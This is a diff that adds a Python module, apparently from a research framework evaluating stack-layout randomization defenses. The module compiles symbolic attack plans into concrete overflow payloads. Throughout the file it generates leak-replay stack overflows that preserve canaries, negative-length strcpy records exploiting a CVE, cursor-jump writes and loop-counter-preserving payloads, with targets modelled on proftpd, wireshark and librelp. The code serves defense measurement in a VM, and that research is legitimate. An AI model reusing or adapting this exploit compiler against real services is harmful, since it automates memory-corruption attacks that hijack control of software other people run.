@@ -1,0 +1,511 @@
+"""Plan concretization: symbolic slot writes -> crafted input chunks.
+
+This is the attack compiler's back end.  An :class:`AttackScript` turns
+one :class:`~repro.synth.planner.AttackPlan` plus one
+:class:`~repro.synth.layouts.GapModel` (the defense-specific layout
+hypothesis) into the byte chunks an input hook feeds the VM, speaking
+each channel's native protocol:
+
+``direct``          raw overflow payloads with init-value refills
+``staged-memcpy``   ``le64(n)`` header + leak-replay payload records
+``staged-strcpy``   negative-length records, strcpy stacking, arm-ops
+``cursor``          surgical jump/value/clear SAN connections
+``copy-loop``       one payload with a self-preserving loop counter
+
+The staged styles replay a disclosure leak as the patch base — the
+relative-distance knowledge of the paper's §II-B.  Everything here can
+fail (leak too short, value not NUL-free, target beyond a jump): a
+failed build simply yields a no-op script and the attempt is spent,
+which is precisely how the success-rate metric is meant to charge the
+attacker for wrong layout hypotheses.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import Callable, Dict, List, Optional, Tuple
+
+from repro.attacks.librelp import surgical_connection
+from repro.attacks.overflow import le64
+from repro.attacks.proftpd import stacked_writes
+from repro.synth.channels import OverflowChannel
+from repro.synth.facts import ProgramFacts
+from repro.synth.layouts import GapModel
+from repro.synth.planner import AttackPlan, SlotWrite, Strike, WORD_MASK
+
+AddressOf = Callable[[str], int]
+
+
+def write_word(write: SlotWrite, address_of: AddressOf) -> Tuple[int, int]:
+    """(value, mask) of a symbolic write, addresses resolved."""
+    value = 0
+    mask = 0
+    for piece_mask, term in write.pieces:
+        value |= term.resolve(address_of) & piece_mask
+        mask |= piece_mask
+    return value & WORD_MASK, mask & WORD_MASK
+
+
+def patch_bytes(base: bytearray, gap: int, value: int, mask: int) -> None:
+    """Merge a masked 64-bit write into ``base`` at byte offset ``gap``."""
+    for index in range(8):
+        position = gap + index
+        if position >= len(base):
+            break
+        byte_mask = (mask >> (8 * index)) & 0xFF
+        if byte_mask == 0:
+            continue
+        byte_value = (value >> (8 * index)) & 0xFF
+        base[position] = (base[position] & ~byte_mask) | (byte_value & byte_mask)
+
+
+class BuildError(Exception):
+    """This plan cannot be expressed on this channel/model/leak."""
+
+
+@dataclass
+class AttackScript:
+    """The input-hook program for one (plan, gap model) pair."""
+
+    probe_chunks: List[bytes] = field(default_factory=list)
+    idle_chunk: Optional[bytes] = None
+    #: leak (bytes since probe) -> strike + wind-down chunks, or None
+    build_chunks: Callable[[bytes], Optional[List[bytes]]] = lambda leak: []
+    #: fully static scripts skip the probe/leak round-trip
+    static_chunks: Optional[List[bytes]] = None
+
+
+def concretize(
+    facts: ProgramFacts,
+    plan: AttackPlan,
+    model: GapModel,
+    address_of: AddressOf,
+) -> AttackScript:
+    """Compile ``plan`` into an input script under ``model``'s layout."""
+    channel = plan.channel
+    builder = _BUILDERS.get(channel.style)
+    if builder is None:
+        raise BuildError(f"no concretizer for style '{channel.style}'")
+    return builder(facts, plan, model, address_of)
+
+
+# --------------------------------------------------------------------------
+# shared helpers
+# --------------------------------------------------------------------------
+
+
+def _resolved_writes(
+    plan: AttackPlan, model: GapModel, address_of: AddressOf
+) -> List[List[Tuple[SlotWrite, int, int, int]]]:
+    """Per strike: (write, gap, value, mask), gaps from the model."""
+    out = []
+    for strike in plan.strikes:
+        resolved = []
+        for write in strike.writes:
+            try:
+                gap = model.gap(write.frame, write.slot)
+            except KeyError as exc:
+                raise BuildError(str(exc))
+            if gap < 0:
+                raise BuildError(f"{write.slot} below the buffer")
+            value, mask = write_word(write, address_of)
+            resolved.append((write, gap, value, mask))
+        out.append(resolved)
+    return out
+
+
+def _extent(resolved) -> int:
+    return max((gap + 8 for strikes in resolved for _, gap, _, _ in strikes), default=0)
+
+
+def _init_fill(
+    facts: ProgramFacts,
+    channel: OverflowChannel,
+    model: GapModel,
+    address_of: AddressOf,
+    base: bytearray,
+) -> None:
+    """Refill victim slots in range with their provable initial values."""
+    inits = facts.initial_values(channel.function)
+    for name, gap, size in model.victim_slots_between(0, len(base)):
+        init = inits.get(name)
+        if init is None or gap < 0:
+            continue
+        if init.kind == "const":
+            value = init.value
+        else:
+            value = address_of(init.value)
+        data = (value & ((1 << (8 * min(size, 8))) - 1)).to_bytes(
+            min(size, 8), "little"
+        )
+        base[gap : gap + len(data)] = data[: max(0, len(base) - gap)]
+
+
+# --------------------------------------------------------------------------
+# direct: raw overflow payloads (listing1)
+# --------------------------------------------------------------------------
+
+
+def _build_direct(
+    facts: ProgramFacts,
+    plan: AttackPlan,
+    model: GapModel,
+    address_of: AddressOf,
+) -> AttackScript:
+    channel = plan.channel
+    resolved = _resolved_writes(plan, model, address_of)
+    crossing = any(
+        write.frame == "caller" for strike in resolved for write, _, _, _ in strike
+    )
+    if crossing and channel.echo is not None:
+        return _build_direct_leak(facts, plan, model, address_of, resolved)
+    extent = _extent(resolved)
+    if extent > channel.write_limit:
+        raise BuildError("plan exceeds the channel's write budget")
+    chunks: List[bytes] = []
+    for strike in resolved:
+        payload = bytearray(extent)
+        _init_fill(facts, channel, model, address_of, payload)
+        for _, gap, value, mask in strike:
+            patch_bytes(payload, gap, value, mask)
+        chunks.append(bytes(payload))
+    return AttackScript(static_chunks=chunks, idle_chunk=b"x")
+
+
+def _find_marker(leak: bytes, marker: int) -> Optional[int]:
+    """Offset of ``le64(marker)`` in the leak, if it occurs exactly once."""
+    needle = le64(marker & WORD_MASK)
+    first = leak.find(needle)
+    if first < 0 or leak.find(needle, first + 1) >= 0:
+        return None
+    return first
+
+
+def _build_direct_leak(
+    facts: ProgramFacts,
+    plan: AttackPlan,
+    model: GapModel,
+    address_of: AddressOf,
+    resolved: List[List[Tuple[SlotWrite, int, int, int]]],
+) -> AttackScript:
+    """Frame-crossing direct overflow, echo-guided (the fuzz-victim shape).
+
+    A one-byte probe makes the victim echo its own stack; the strike
+    replays that disclosure verbatim (so cookies, canaries and bystander
+    slots round-trip) and patches only the planned slots.  Caller slots
+    whose initial value is a distinctive constant are *located* in the
+    leak by that marker — which is what defeats a compile-time
+    permutation but not a per-invocation one, since the next call has
+    already re-dealt the frame by the time the strike lands.
+    """
+    channel = plan.channel
+    caller = channel.caller.function if channel.caller is not None else None
+    inits = facts.initial_values(caller) if caller is not None else {}
+
+    def located_gap(write: SlotWrite, model_gap: int, leak: bytes) -> int:
+        if write.frame != "caller":
+            return model_gap
+        init = inits.get(write.slot)
+        if init is None or init.kind != "const" or not init.value:
+            return model_gap
+        found = _find_marker(leak, init.value)
+        return found if found is not None else model_gap
+
+    def build(leak: bytes) -> Optional[List[bytes]]:
+        placed = [
+            [(write, located_gap(write, gap, leak), value, mask) for write, gap, value, mask in strike]
+            for strike in resolved
+        ]
+        extent = _extent(placed)
+        if extent > channel.write_limit or len(leak) < extent:
+            return None
+        chunks: List[bytes] = []
+        applied: List[Tuple[int, int, int]] = []
+        for strike in placed:
+            payload = bytearray(leak[:extent])
+            for gap, value, mask in applied:
+                patch_bytes(payload, gap, value, mask)
+            for _, gap, value, mask in strike:
+                patch_bytes(payload, gap, value, mask)
+                applied.append((gap, value, mask))
+            chunks.append(bytes(payload))
+        return chunks
+
+    # empty idle input reads 0 bytes, so the victim's loop winds down
+    return AttackScript(
+        probe_chunks=[b"\x01"], idle_chunk=b"", build_chunks=build
+    )
+
+
+# --------------------------------------------------------------------------
+# staged-memcpy: length header + payload records (wireshark)
+# --------------------------------------------------------------------------
+
+
+def _build_memcpy(
+    facts: ProgramFacts,
+    plan: AttackPlan,
+    model: GapModel,
+    address_of: AddressOf,
+) -> AttackScript:
+    channel = plan.channel
+    resolved = _resolved_writes(plan, model, address_of)
+    extent = _extent(resolved)
+    if extent > channel.write_limit:
+        raise BuildError("plan exceeds the channel's write budget")
+
+    def build(leak: bytes) -> Optional[List[bytes]]:
+        if len(leak) < extent:
+            return None
+        chunks: List[bytes] = []
+        applied: List[Tuple[int, int, int]] = []
+        for strike in resolved:
+            payload = bytearray(leak[:extent])
+            # corruption accumulates: replaying a stale leak must not
+            # undo the previous strikes' writes
+            for gap, value, mask in applied:
+                patch_bytes(payload, gap, value, mask)
+            for _, gap, value, mask in strike:
+                patch_bytes(payload, gap, value, mask)
+                applied.append((gap, value, mask))
+            chunks.extend([le64(len(payload)), bytes(payload)])
+        chunks.append(le64(0))  # benign empty record; export path follows
+        return chunks
+
+    return AttackScript(
+        probe_chunks=[le64(16), b"\x10" * 16],
+        idle_chunk=le64(0),
+        build_chunks=build,
+    )
+
+
+# --------------------------------------------------------------------------
+# staged-strcpy: stacked string writes + arm-op records (proftpd)
+# --------------------------------------------------------------------------
+
+
+def _build_strcpy(
+    facts: ProgramFacts,
+    plan: AttackPlan,
+    model: GapModel,
+    address_of: AddressOf,
+) -> AttackScript:
+    channel = plan.channel
+    resolved = _resolved_writes(plan, model, address_of)
+    extent = _extent(resolved)
+    if extent > channel.write_limit:
+        raise BuildError("plan exceeds the channel's write budget")
+    buffer_size = channel.buffer_size
+
+    def emit_write(records: List[bytes], payload: bytes) -> None:
+        records.append(le64(-1))  # the CVE: negative length = unbounded
+        records.append(payload + b"\x00")
+
+    def patched_image(
+        leak: bytes, patches: List[Tuple[int, int, int]]
+    ) -> Optional[bytes]:
+        end = max(gap + 8 for gap, _, _ in patches)
+        while end < len(leak) and leak[end] != 0:
+            end += 1
+        if end >= len(leak):
+            return None
+        image = bytearray(leak[: end + 1])
+        image[end] = 0
+        for index in range(min(buffer_size, len(image) - 1)):
+            image[index] = 0x6A  # dead buffer: NUL-free junk
+        for gap, value, mask in patches:
+            patch_bytes(image, gap, value, mask)
+        return bytes(image)
+
+    def arm_op(
+        leak: bytes, gap: int, value: int, mask: int
+    ) -> Optional[bytes]:
+        # One write ending right past the trigger slot: its NUL lands on
+        # the byte above, the gadget fires at the end of this record.
+        if len(leak) < gap + 8:
+            return None
+        payload = bytearray(leak[: gap + 8])
+        for index in range(min(buffer_size, len(payload))):
+            payload[index] = 0x6A
+        for index in range(buffer_size, gap):
+            if payload[index] == 0:
+                payload[index] = 1  # should not occur: cookie replay
+        patch_bytes(payload, gap, value, mask)
+        if 0 in payload[: gap + 8]:
+            return None  # the copy would stop at the embedded NUL
+        return bytes(payload)
+
+    def build(leak: bytes) -> Optional[List[bytes]]:
+        records: List[bytes] = []
+        for strike in resolved:
+            staged = [
+                (gap, value, mask)
+                for write, gap, value, mask in strike
+                if not write.trigger
+            ]
+            triggers = [
+                (gap, value, mask)
+                for write, gap, value, mask in strike
+                if write.trigger
+            ]
+            if staged:
+                # the arming replay covers [0, trigger); staged operands
+                # must live above it or the replay would undo them
+                lowest_trigger = min((g for g, _, _ in triggers), default=None)
+                if lowest_trigger is not None and any(
+                    gap < lowest_trigger + 8 for gap, _, _ in staged
+                ):
+                    return None
+                image = patched_image(leak, staged)
+                if image is None:
+                    return None
+                for write in stacked_writes(image):
+                    if len(write) > channel.chunk_limit - 1:
+                        return None
+                    emit_write(records, write)
+            for gap, value, mask in sorted(triggers):
+                payload = arm_op(leak, gap, value, mask)
+                if payload is None:
+                    return None
+                emit_write(records, payload)
+        records.append(le64(0))  # QUIT: ends the command loop
+        return records
+
+    return AttackScript(
+        probe_chunks=[le64(16), b"probe"],
+        idle_chunk=le64(0),
+        build_chunks=build,
+    )
+
+
+# --------------------------------------------------------------------------
+# cursor: surgical SAN connections (librelp)
+# --------------------------------------------------------------------------
+
+
+def _cursor_connections(
+    gap: int, value: int, mask: int, jump_limit: int, buffer_size: int
+) -> List[List[bytes]]:
+    """Connections writing a masked word at ``gap`` via cursor jumps.
+
+    Value bytes are written as NUL-free runs (each run's terminator
+    clears the byte just past it); remaining constrained-zero bytes get
+    explicit clearing runs, emitted top-down so each placeholder byte is
+    cleared by the next terminator below it.
+    """
+    desired: List[Optional[int]] = []
+    for index in range(8):
+        byte_mask = (mask >> (8 * index)) & 0xFF
+        if byte_mask == 0xFF:
+            desired.append((value >> (8 * index)) & 0xFF)
+        elif byte_mask == 0:
+            desired.append(None)
+        else:
+            raise BuildError("sub-byte masks not expressible as SAN writes")
+
+    runs: List[Tuple[int, bytes]] = []
+    start: Optional[int] = None
+    content = bytearray()
+    for index in range(9):
+        byte = desired[index] if index < 8 else None
+        if byte:
+            if start is None:
+                start = index
+            content.append(byte)
+        else:
+            if start is not None:
+                runs.append((start, bytes(content)))
+                start, content = None, bytearray()
+
+    cleared = {start + len(run) for start, run in runs}
+    connections: List[List[bytes]] = []
+    for index in range(7, -1, -1):  # top-down: placeholders clear below
+        if desired[index] == 0 and index not in cleared:
+            target = gap + index - 1
+            if not buffer_size < target <= jump_limit:
+                raise BuildError("zero-clear target beyond a jump's reach")
+            connections.append(surgical_connection(target, b"\x01"))
+            cleared.add(index)
+    for start, run in runs:  # bottom-up: later writes fix placeholders
+        target = gap + start
+        if not buffer_size < target <= jump_limit:
+            raise BuildError("write target beyond a single jump's reach")
+        connections.append(surgical_connection(target, run))
+    return connections
+
+
+def _build_cursor(
+    facts: ProgramFacts,
+    plan: AttackPlan,
+    model: GapModel,
+    address_of: AddressOf,
+) -> AttackScript:
+    channel = plan.channel
+    resolved = _resolved_writes(plan, model, address_of)
+    jump_limit = channel.chunk_limit
+    chunks: List[bytes] = []
+    for strike in resolved:
+        ordered = sorted(
+            strike, key=lambda item: (item[0].trigger, item[1])
+        )  # operands (ascending) first, triggers last
+        for write, gap, value, mask in ordered:
+            for connection in _cursor_connections(
+                gap, value, mask, jump_limit, channel.buffer_size
+            ):
+                chunks.extend(connection)
+    chunks.extend([b"done", b"", b""])  # flush round, then disconnect
+    return AttackScript(static_chunks=chunks, idle_chunk=b"")
+
+
+# --------------------------------------------------------------------------
+# copy-loop: one payload with a self-preserving counter (logger)
+# --------------------------------------------------------------------------
+
+
+def _build_copy_loop(
+    facts: ProgramFacts,
+    plan: AttackPlan,
+    model: GapModel,
+    address_of: AddressOf,
+) -> AttackScript:
+    channel = plan.channel
+    resolved = _resolved_writes(plan, model, address_of)
+    extent = _extent(resolved)
+    if extent > channel.write_limit:
+        raise BuildError("plan exceeds the channel's write budget")
+    payload = bytearray(extent)
+    _init_fill(facts, channel, model, address_of, payload)
+    # the copy writes one byte per iteration; when it reaches its own
+    # counter slot, each written byte must leave the counter equal to
+    # the index just written, or the loop derails
+    if channel.counter_slot is not None:
+        try:
+            counter_gap = model.victim_gap(channel.counter_slot)
+        except KeyError:
+            counter_gap = None
+        if counter_gap is not None and 0 <= counter_gap < extent:
+            for index in range(8):
+                position = counter_gap + index
+                if position < extent:
+                    payload[position] = ((counter_gap + index) >> (8 * index)) & 0xFF
+    # the bound slot holds the input length: rewrite it with itself
+    if channel.bound_slot is not None:
+        try:
+            bound_gap = model.victim_gap(channel.bound_slot)
+        except KeyError:
+            bound_gap = None
+        if bound_gap is not None and 0 <= bound_gap < extent:
+            patch_bytes(payload, bound_gap, extent, WORD_MASK)
+    for strike in resolved:
+        for _, gap, value, mask in strike:
+            patch_bytes(payload, gap, value, mask)
+    return AttackScript(static_chunks=[bytes(payload)], idle_chunk=None)
+
+
+_BUILDERS = {
+    "direct": _build_direct,
+    "staged-memcpy": _build_memcpy,
+    "staged-strcpy": _build_strcpy,
+    "cursor": _build_cursor,
+    "copy-loop": _build_copy_loop,
+}
